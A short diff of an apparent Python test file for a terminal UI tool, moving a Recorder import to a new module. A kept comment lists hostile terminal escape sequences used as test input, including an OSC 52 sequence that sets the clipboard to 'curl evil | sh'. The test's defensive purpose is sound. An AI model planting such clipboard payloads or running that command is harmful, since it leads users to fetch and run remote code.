@@ -16,8 +16,8 @@ import pytest
 from conftest import run_cli
 from ui_helpers import screen_text, wait_for
 
-from lgtui.capture import Recorder
 from lgtui.events import StreamEvent
+from lgtui.recorder import Recorder
 
 # clear screen, OSC 52 (set the clipboard to `curl evil | sh`), OSC 0 (window title), a
 # C1 CSI, BEL, a right-to-left override, a word joiner, a byte order mark
